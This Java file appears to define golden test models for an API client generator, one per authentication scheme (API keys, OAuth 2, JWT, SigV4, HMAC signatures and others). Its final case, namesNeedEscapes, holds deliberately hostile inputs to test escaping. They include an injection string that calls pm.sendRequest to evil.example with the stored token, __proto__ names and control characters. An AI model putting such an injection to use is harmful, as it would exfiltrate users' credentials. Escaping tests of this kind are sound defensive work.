package io.github.authdex.generator.golden;

import static io.github.authdex.generator.golden.Apis.anyOf;
import static io.github.authdex.generator.golden.Apis.api;
import static io.github.authdex.generator.golden.Apis.parameter;

import io.github.authdex.auth.AuthRequirement;
import io.github.authdex.auth.AuthRequirement.Alternative;
import io.github.authdex.auth.FixedHeader;
import io.github.authdex.auth.Placement;
import io.github.authdex.auth.Server;
import io.github.authdex.auth.ServerVariable;
import io.github.authdex.auth.apikey.ApiKeyScheme;
import io.github.authdex.auth.asap.AsapScheme;
import io.github.authdex.auth.basic.BasicScheme;
import io.github.authdex.auth.bearer.BearerScheme;
import io.github.authdex.auth.credential.KeyEncoding;
import io.github.authdex.auth.digest.DigestScheme;
import io.github.authdex.auth.edgegrid.EdgeGridScheme;
import io.github.authdex.auth.hawk.HawkScheme;
import io.github.authdex.auth.httpsig.HttpSigScheme;
import io.github.authdex.auth.jwt.JwtContent;
import io.github.authdex.auth.jwt.JwtExchange;
import io.github.authdex.auth.jwt.JwtScheme;
import io.github.authdex.auth.mtls.MtlsScheme;
import io.github.authdex.auth.ntlm.NtlmScheme;
import io.github.authdex.auth.oauth1.OAuth1Scheme;
import io.github.authdex.auth.oauth2.ClientAuthentication;
import io.github.authdex.auth.oauth2.OAuth2Flow;
import io.github.authdex.auth.oauth2.OAuth2Options;
import io.github.authdex.auth.oauth2.OAuth2Scheme;
import io.github.authdex.auth.oidc.OidcScheme;
import io.github.authdex.auth.session.SessionLogin;
import io.github.authdex.auth.session.SessionScheme;
import io.github.authdex.auth.session.SessionToken;
import io.github.authdex.auth.signature.SignatureParameter;
import io.github.authdex.auth.signature.SignaturePart.Hash;
import io.github.authdex.auth.signature.SignaturePart.Piece;
import io.github.authdex.auth.signature.SignatureScheme;
import io.github.authdex.auth.signature.SignatureStamp;
import io.github.authdex.auth.sigv4.SigV4Scheme;
import io.github.authdex.client.OrderedMap;
import io.github.authdex.model.ApiModel;
import io.github.authdex.model.Operation;
import io.github.authdex.model.Operation.Content;
import io.github.authdex.model.Operation.Parameter;
import io.github.authdex.model.Operation.RequestBody;
import io.github.authdex.model.Operation.Response;
import io.github.authdex.model.Schema;
import io.github.authdex.model.Schema.Property;
import io.github.authdex.model.Schema.Scalar;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Supplier;

/** The models of the golden cases: one for each kind, and those where kinds meet. */
public final class GoldenModels {
  private static final Schema TEXT = new Scalar(Scalar.Type.STRING);

  private GoldenModels() {}

  /** Returns the cases, by the name of their folder. */
  public static Map<String, Supplier<ApiModel>> all() {
    Map<String, Supplier<ApiModel>> all = new LinkedHashMap<>();
    all.put("apikey-header", GoldenModels::apiKeyHeader);
    all.put("apikey-query", GoldenModels::apiKeyQuery);
    all.put("apikey-cookie", GoldenModels::apiKeyCookie);
    all.put("apikey-body-and-path", GoldenModels::apiKeyBodyAndPath);
    all.put("asap", GoldenModels::asap);
    all.put("basic", GoldenModels::basic);
    all.put("bearer", GoldenModels::bearer);
    all.put("bearer-prefix", GoldenModels::bearerPrefix);
    all.put("bodies", GoldenModels::bodies);
    all.put("digest", GoldenModels::digest);
    all.put("edgegrid", GoldenModels::edgeGrid);
    all.put("hawk", GoldenModels::hawk);
    all.put("httpsig", GoldenModels::httpSig);
    all.put("jwt-exchange", GoldenModels::jwtExchange);
    all.put("jwt-hex", GoldenModels::jwtHex);
    all.put("jwt-query", GoldenModels::jwtQuery);
    all.put("mtls-and-key", GoldenModels::mtlsAndKey);
    all.put("ntlm", GoldenModels::ntlm);
    all.put("oauth1", GoldenModels::oauth1);
    all.put("oauth2-client-credentials", GoldenModels::oauth2ClientCredentials);
    all.put("oauth2-code", GoldenModels::oauth2Code);
    all.put("oauth2-own-way", GoldenModels::oauth2OwnWay);
    all.put("oidc", GoldenModels::oidc);
    all.put("session", GoldenModels::session);
    all.put("signature-body", GoldenModels::signatureBody);
    all.put("signature-header", GoldenModels::signatureHeader);
    all.put("signature-query-and-key", GoldenModels::signatureQueryAndKey);
    all.put("sigv4", GoldenModels::sigV4);
    all.put("two-alternatives", GoldenModels::twoAlternatives);
    all.put("two-schemes", GoldenModels::twoSchemes);
    all.put("optional", GoldenModels::optional);
    all.put("public-operation", GoldenModels::publicOperation);
    all.put("names-need-escapes", GoldenModels::namesNeedEscapes);
    return all;
  }

  private static ApiModel apiKeyHeader() {
    return api("keyed")
        .scheme("apiKey", new ApiKeyScheme(Placement.HEADER, "X-Api-Key", ""))
        .requires(Alternative.of("apiKey"))
        .header(new FixedHeader("Acme-Version", true, Optional.empty(), "2025-03-31", ""))
        .header(new FixedHeader("Acme-Preview", false, Optional.empty(), "beta", ""))
        .get("listThings", "/things", parameter(Parameter.In.QUERY, "limit", false))
        .get("getThing", "/things/{thingId}", parameter(Parameter.In.PATH, "thingId", true))
        .schema("Thing", thing())
        .post("createThing", "/things", "application/json", new Schema.Ref("Thing"))
        .build();
  }

  /** Refers to itself, so that a sample must end somewhere. */
  private static Schema thing() {
    return new Schema.ObjectOf(
        List.of(
            property("id", TEXT, true, true),
            property("name", TEXT, true, false),
            property("size", new Scalar(Scalar.Type.INT32), true, false),
            property(
                "state",
                new Schema.Enumeration(Scalar.Type.STRING, List.of("new", "used")),
                true,
                false),
            property("parent", new Schema.Ref("Thing"), true, false),
            property("parts", new Schema.ArrayOf(new Schema.Ref("Thing"), false), true, false),
            property("note", TEXT, false, false)),
        Optional.empty(),
        "");
  }

  private static Property property(String name, Schema schema, boolean required, boolean readOnly) {
    return new Property(name, schema, required, false, readOnly, false, false, "");
  }

  private static ApiModel apiKeyQuery() {
    return api("queried")
        .scheme("appid", new ApiKeyScheme(Placement.QUERY, "appid", ""))
        .requires(Alternative.of("appid"))
        .get(
            "weather",
            "/weather",
            parameter(Parameter.In.QUERY, "q", true),
            parameter(Parameter.In.QUERY, "appid", true))
        .build();
  }

  private static ApiModel apiKeyCookie() {
    return api("baked")
        .scheme("session", new ApiKeyScheme(Placement.COOKIE, "SESSION", ""))
        .scheme("csrf", new ApiKeyScheme(Placement.COOKIE, "CSRF", ""))
        .requires(Alternative.of("session"))
        .get("read", "/read")
        .get("write", "/write", anyOf(Alternative.of("session", "csrf")))
        .build();
  }

  private static ApiModel apiKeyBodyAndPath() {
    return api("placed")
        .scheme("clientId", new ApiKeyScheme(Placement.BODY, "client_id", ""))
        .scheme("secret", new ApiKeyScheme(Placement.BODY, "secret", ""))
        .scheme("botToken", new ApiKeyScheme(Placement.PATH, "token", ""))
        .requires(Alternative.of("clientId", "secret"))
        .post("create", "/create", "application/json", thing())
        .post("createForm", "/create-form", "application/x-www-form-urlencoded", thing())
        .operation(
            "POST",
            "bare",
            "/bare",
            "",
            anyOf(Alternative.of("clientId", "secret")),
            Optional.empty())
        .get("getMe", "/bot{token}/getMe", anyOf(Alternative.of("botToken")))
        .build();
  }

  private static ApiModel asap() {
    return api("federated")
        .scheme("asap", new AsapScheme("RS256", "acme/{region}"))
        .at(regional())
        .requires(Alternative.of("asap"))
        .get("whoami", "/whoami")
        .build();
  }

  private static Server regional() {
    ServerVariable region =
        new ServerVariable(
            "region",
            "Where the account lives.",
            Optional.of("eu"),
            List.of("eu", "us"),
            ServerVariable.HOST_LABEL,
            "eu");
    return new Server("https://{region}.acme.example", "", "", Map.of("region", region));
  }

  private static ApiModel basic() {
    return api("plain")
        .scheme(
            "key",
            new BasicScheme(),
            OrderedMap.of(Map.entry("username", "secretKey"), Map.entry("password", "")))
        .at(
            new Server("https://api.acme.example", "live", "", Map.of()),
            new Server("https://api.sandbox.acme.example", "sandbox", "", Map.of()))
        .requires(Alternative.of("key"))
        .get("balance", "/balance")
        .build();
  }

  private static ApiModel bearer() {
    return api("borne")
        .scheme("token", BearerScheme.BEARER)
        .requires(Alternative.of("token"))
        .get("me", "/me")
        .build();
  }

  private static ApiModel bearerPrefix() {
    return api("bots")
        .scheme("bot", new BearerScheme("Bot "))
        .requires(Alternative.of("bot"))
        .get("me", "/me")
        .build();
  }

  private static ApiModel bodies() {
    Schema upload =
        new Schema.ObjectOf(
            List.of(
                property("file", new Scalar(Scalar.Type.BINARY), true, false),
                property("title", TEXT, true, false),
                property("tags", new Schema.ArrayOf(TEXT, false), false, false)),
            Optional.empty(),
            "");
    return api("loaded")
        .scheme("token", BearerScheme.BEARER)
        .requires(Alternative.of("token"))
        .post("list", "/list", "application/json", new Schema.ArrayOf(TEXT, false))
        .post("patch", "/patch", "application/merge-patch+json", thing())
        .post("upload", "/upload", "multipart/form-data", upload)
        .post("binary", "/binary", "application/octet-stream", new Scalar(Scalar.Type.BINARY))
        .post("text", "/text", "text/plain", TEXT)
        .operation(
            "GET",
            "search",
            "/search",
            "",
            anyOf(Alternative.of("token")),
            Optional.of(
                new RequestBody(false, List.of(new Content("application/json", thing())), "")))
        .build();
  }

  private static ApiModel digest() {
    return api("digested")
        .scheme("digest", new DigestScheme())
        .requires(Alternative.of("digest"))
        .get("status", "/status")
        .build();
  }

  private static ApiModel edgeGrid() {
    return api("edge")
        .scheme("edgegrid", new EdgeGridScheme(List.of("X-One", "X-Two"), 131072))
        .requires(Alternative.of("edgegrid"))
        .post("purge", "/purge", "application/json", thing())
        .build();
  }

  private static ApiModel hawk() {
    return api("hawked")
        .scheme("hawk", new HawkScheme("sha256", true))
        .requires(Alternative.of("hawk"))
        .get("read", "/read")
        .post("write", "/write", "application/json", thing())
        .build();
  }

  private static ApiModel httpSig() {
    return api("sealed")
        .scheme("sig", new HttpSigScheme("ed25519", List.of("@method"), Optional.empty(), "sig1"))
        .requires(Alternative.of("sig"))
        .get("read", "/read")
        .get("list", "/list")
        .build();
  }

  private static ApiModel jwtHex() {
    Map<String, String> claims = new LinkedHashMap<>();
    claims.put("aud", "/admin/");
    claims.put("iss", "{keyId}");
    return api("ghostly")
        .scheme(
            "admin",
            new JwtScheme(
                "HS256",
                KeyEncoding.HEX,
                new JwtContent(claims, Map.of("tier", "[1,\"{shop}\"]"), Map.of("id", "{shop}")),
                300,
                5,
                Optional.empty(),
                Placement.HEADER,
                "Authorization",
                "Ghost "))
        .requires(Alternative.of("admin"))
        .get("site", "/site")
        .build();
  }

  private static ApiModel jwtExchange() {
    return api("installed")
        .scheme(
            "app",
            new JwtScheme(
                "RS256",
                KeyEncoding.PEM,
                JwtContent.ofClaims(Map.of("iss", "{appId}")),
                600,
                60,
                Optional.of(
                    new JwtExchange(
                        "/app/installations/{installationId}/access_tokens",
                        JwtExchange.As.BEARER,
                        Map.of(),
                        "/token",
                        "/expires_at",
                        Map.of())),
                Placement.HEADER,
                "Authorization",
                "Bearer "))
        .requires(Alternative.of("app"))
        .get("repositories", "/installation/repositories")
        .build();
  }

  private static ApiModel jwtQuery() {
    return api("asserted")
        .scheme(
            "jwt",
            new JwtScheme(
                "RS256",
                KeyEncoding.PEM,
                JwtContent.ofClaims(
                    OrderedMap.of(Map.entry("jti", "{$uuid}"), Map.entry("nbf", "{$issuedAt}"))),
                300,
                0,
                Optional.empty(),
                Placement.QUERY,
                "assertion",
                ""),
            OrderedMap.of(Map.entry("keyId", ""), Map.entry("key", "privateKey")))
        .requires(Alternative.of("jwt"))
        .get("read", "/read")
        .build();
  }

  private static ApiModel mtlsAndKey() {
    return api("certified")
        .scheme("cert", new MtlsScheme())
        .scheme("apiKey", new ApiKeyScheme(Placement.HEADER, "X-Api-Key", ""))
        .requires(Alternative.of("cert", "apiKey"))
        .get("both", "/both")
        .get("certOnly", "/cert-only", anyOf(Alternative.of("cert")))
        .build();
  }

  private static ApiModel ntlm() {
    return api("windows")
        .scheme("ntlm", new NtlmScheme())
        .requires(Alternative.of("ntlm"))
        .get("lists", "/lists")
        .build();
  }

  private static ApiModel oauth1() {
    return api("signed")
        .scheme(
            "oauth1",
            new OAuth1Scheme(
                "HMAC-SHA256",
                Placement.HEADER,
                "{account}",
                false,
                Optional.empty(),
                Optional.empty(),
                Optional.empty()))
        .requires(Alternative.of("oauth1"))
        .get("records", "/records", parameter(Parameter.In.QUERY, "q", true))
        .build();
  }

  private static ApiModel oauth2ClientCredentials() {
    return api("machine")
        .scheme(
            "oauth2",
            new OAuth2Scheme(
                List.of(flow(OAuth2Flow.Type.CLIENT_CREDENTIALS, "/oauth/token")),
                OAuth2Options.STANDARD))
        .requires(new Alternative(Map.of("oauth2", List.of("read", "write"))))
        .get("first", "/first")
        .get("second", "/second")
        .get("open", "/open", AuthRequirement.NONE)
        .build();
  }

  private static OAuth2Flow flow(OAuth2Flow.Type type, String tokenUrl) {
    return new OAuth2Flow(
        type,
        type == OAuth2Flow.Type.AUTHORIZATION_CODE
            ? Optional.of("https://login.acme.example/authorize")
            : Optional.empty(),
        Optional.of(tokenUrl),
        Optional.empty(),
        Optional.empty(),
        OrderedMap.of(Map.entry("read", ""), Map.entry("write", "")),
        OAuth2Flow.Pkce.SUPPORTED,
        Optional.empty());
  }

  private static ApiModel oauth2Code() {
    String tokenUrl = "https://login.acme.example/token";
    return api("consented")
        .scheme(
            "login",
            new OAuth2Scheme(
                List.of(flow(OAuth2Flow.Type.AUTHORIZATION_CODE, tokenUrl)),
                OAuth2Options.STANDARD))
        .requires(Alternative.of("login"))
        .get("me", "/me", anyOf(new Alternative(Map.of("login", List.of("read")))))
        .build();
  }

  /** Everything that RFC 6749 leaves open, answered otherwise than usual. */
  private static ApiModel oauth2OwnWay() {
    OAuth2Flow flow =
        new OAuth2Flow(
            OAuth2Flow.Type.CLIENT_CREDENTIALS,
            Optional.empty(),
            Optional.of("https://{region}.login.acme.example/token"),
            Optional.empty(),
            Optional.empty(),
            Map.of(),
            OAuth2Flow.Pkce.UNSUPPORTED,
            Optional.of("account_credentials"));
    OAuth2Options options =
        new OAuth2Options(
            ClientAuthentication.CLIENT_SECRET_POST,
            true,
            ",",
            Map.of(),
            Map.of("account_id", "{accountId}"),
            Map.of(),
            true,
            new OAuth2Options.TokenFields(
                "/data/access~1token", "/refresh_token", "/data/life", "/scope"),
            Placement.HEADER,
            "X-Access-Token",
            "");
    return api("peculiar")
        .at(regional())
        .scheme("oauth2", new OAuth2Scheme(List.of(flow), options))
        .requires(new Alternative(Map.of("oauth2", List.of("read", "write"))))
        .get("first", "/first")
        .build();
  }

  private static ApiModel oidc() {
    return api("discovered")
        .scheme(
            "oidc",
            new OidcScheme(
                "https://login.acme.example/.well-known/openid-configuration",
                Map.of(),
                OAuth2Options.STANDARD))
        .requires(Alternative.of("oidc"))
        .get("me", "/me")
        .build();
  }

  private static ApiModel session() {
    return api("visited")
        .scheme(
            "session",
            new SessionScheme(
                new SessionLogin(
                    "POST",
                    "/login",
                    "json",
                    OrderedMap.of(
                        Map.entry("user", "{username}"), Map.entry("password", "{password}")),
                    Map.of()),
                Optional.of(
                    new SessionToken(
                        false, "/token", Placement.HEADER, "X-Session", "", Optional.empty())),
                false,
                Optional.empty()))
        .requires(Alternative.of("session"))
        .get("me", "/me")
        .build();
  }

  /** A hash inside of what is signed, a key in Base64, a counter in the body (Kraken). */
  private static ApiModel signatureBody() {
    return api("counted")
        .credentials("apiKey")
        .scheme(
            "sign",
            new SignatureScheme(
                "HMAC-SHA512",
                KeyEncoding.BASE64,
                List.of(Piece.PATH, new Hash("SHA-256", "raw", List.of(Piece.NONCE, Piece.BODY))),
                "",
                "base64",
                Optional.empty(),
                stamp("counter", Placement.BODY, "nonce"),
                List.of(new SignatureParameter(Placement.HEADER, "API-Key", "{apiKey}")),
                Placement.HEADER,
                "API-Sign",
                ""))
        .requires(Alternative.of("sign"))
        .post("balance", "/balance", "application/x-www-form-urlencoded", thing())
        .post("ledger", "/ledger", "application/json", thing())
        .build();
  }

  private static ApiModel signatureHeader() {
    return api("stamped")
        .scheme(
            "sign",
            new SignatureScheme(
                "HMAC-SHA256",
                KeyEncoding.TEXT,
                List.of(Piece.TIMESTAMP, Piece.NONCE, Piece.METHOD, Piece.TARGET, Piece.BODY),
                "\n",
                "hex",
                stamp("seconds", Placement.HEADER, "X-Time"),
                Optional.of(new SignatureStamp("uuid", Optional.empty(), "")),
                List.of(),
                Placement.HEADER,
                "Authorization",
                "Stamp nonce={$nonce}, signature={$signature}"))
        .requires(Alternative.of("sign"))
        .get(
            "find",
            "/find/{what}",
            parameter(Parameter.In.PATH, "what", true),
            parameter(Parameter.In.QUERY, "from [ü]", true))
        .post("create", "/create", "application/json", thing())
        .build();
  }

  /** Two schemes at once, one of which covers the place of the other (Binance). */
  private static ApiModel signatureQueryAndKey() {
    return api("traded")
        .scheme(
            "sign",
            new SignatureScheme(
                "HMAC-SHA256",
                KeyEncoding.TEXT,
                List.of(Piece.QUERY, Piece.BODY),
                "",
                "base64",
                stamp("milliseconds", Placement.QUERY, "timestamp"),
                Optional.empty(),
                List.of(),
                Placement.QUERY,
                "signature",
                ""))
        .scheme("apiKey", new ApiKeyScheme(Placement.QUERY, "apiKey", ""))
        .requires(Alternative.of("sign", "apiKey"))
        .get("account", "/account", parameter(Parameter.In.QUERY, "timestamp", true))
        .post("order", "/order", "application/x-www-form-urlencoded", thing())
        .get("ping", "/ping", AuthRequirement.NONE)
        .build();
  }

  private static Optional<SignatureStamp> stamp(String form, Placement in, String name) {
    return Optional.of(new SignatureStamp(form, Optional.of(in), name));
  }

  private static ApiModel sigV4() {
    return api("cloudy")
        .scheme("sigv4", new SigV4Scheme("s3", "{region}", List.of(), true))
        .at(regional())
        .requires(Alternative.of("sigv4"))
        .get(
            "getObject",
            "/{Bucket}/{Key}",
            parameter(Parameter.In.PATH, "Bucket", true),
            parameter(Parameter.In.PATH, "Key", true))
        .post("putObject", "/bucket", "application/json", thing())
        .build();
  }

  private static ApiModel twoAlternatives() {
    return api("either")
        .scheme("token", BearerScheme.BEARER)
        .scheme("login", new BasicScheme())
        .requires(Alternative.of("token"), Alternative.of("login"))
        .get("any", "/any")
        .get("loginOnly", "/login-only", anyOf(Alternative.of("login")))
        .build();
  }

  private static ApiModel twoSchemes() {
    return api("both")
        .scheme("apiKey", new ApiKeyScheme(Placement.HEADER, "X-API-KEY", ""))
        .scheme("appKey", new ApiKeyScheme(Placement.HEADER, "X-APPLICATION-KEY", ""))
        .scheme("lookAlike", new ApiKeyScheme(Placement.HEADER, "X_Api_Key", ""))
        .scheme("login", new BasicScheme())
        .scheme("token", BearerScheme.BEARER)
        .requires(Alternative.of("apiKey", "appKey"))
        .get("keys", "/keys")
        .get("keyAndLogin", "/key-and-login", anyOf(Alternative.of("apiKey", "login")))
        .get("lookAlikes", "/look-alikes", anyOf(Alternative.of("apiKey", "lookAlike")))
        .get("impossible", "/impossible", anyOf(Alternative.of("token", "login")))
        .build();
  }

  private static ApiModel optional() {
    return api("free")
        .scheme("token", BearerScheme.BEARER)
        .requires(Alternative.of("token"), Alternative.of())
        .get("more", "/more")
        .build();
  }

  private static ApiModel publicOperation() {
    return api("mostly")
        .scheme("token", BearerScheme.BEARER)
        .requires(Alternative.of("token"))
        .get("closed", "/closed")
        .get("open", "/open", AuthRequirement.NONE)
        .build();
  }

  /** Text that would be a variable, a path variable, a script or a prototype if it were trusted. */
  private static ApiModel namesNeedEscapes() {
    Schema named =
        new Schema.ObjectOf(
            List.of(
                property("__proto__", TEXT, true, false),
                property("{{hostile_token}}", TEXT, true, false),
                property("quote\"\\ \u202e\u0007", TEXT, true, false)),
            Optional.empty(),
            "");
    return api("hostile")
        .scheme("token", BearerScheme.BEARER)
        .requires(Alternative.of("token"))
        .operation(
            new Operation(
                "'); pm.sendRequest('https://evil.example/' + pm.environment.get('token')); //",
                "POST",
                "/{{hostile_token}}/:colon/{a.b}/{x}:cancel/ü",
                "__proto__",
                "{{{{hostile_token}}",
                "Reads {{hostile_token}} and \u202e\u0000 ends.",
                false,
                List.of(),
                List.of(
                    parameter(Parameter.In.PATH, "a.b", true),
                    parameter(Parameter.In.PATH, "x", true),
                    parameter(Parameter.In.QUERY, "{{hostile_token}}&=#", true),
                    parameter(Parameter.In.HEADER, "X-{{hostile_token}}", true),
                    parameter(Parameter.In.HEADER, "X-Fine", true),
                    parameter(Parameter.In.COOKIE, "{{hostile_token}}", true)),
                Optional.of(
                    new RequestBody(true, List.of(new Content("application/json", named)), "")),
                List.of(new Response("200", List.of(), "")),
                anyOf(Alternative.of("token"))))
        .build();
  }
}
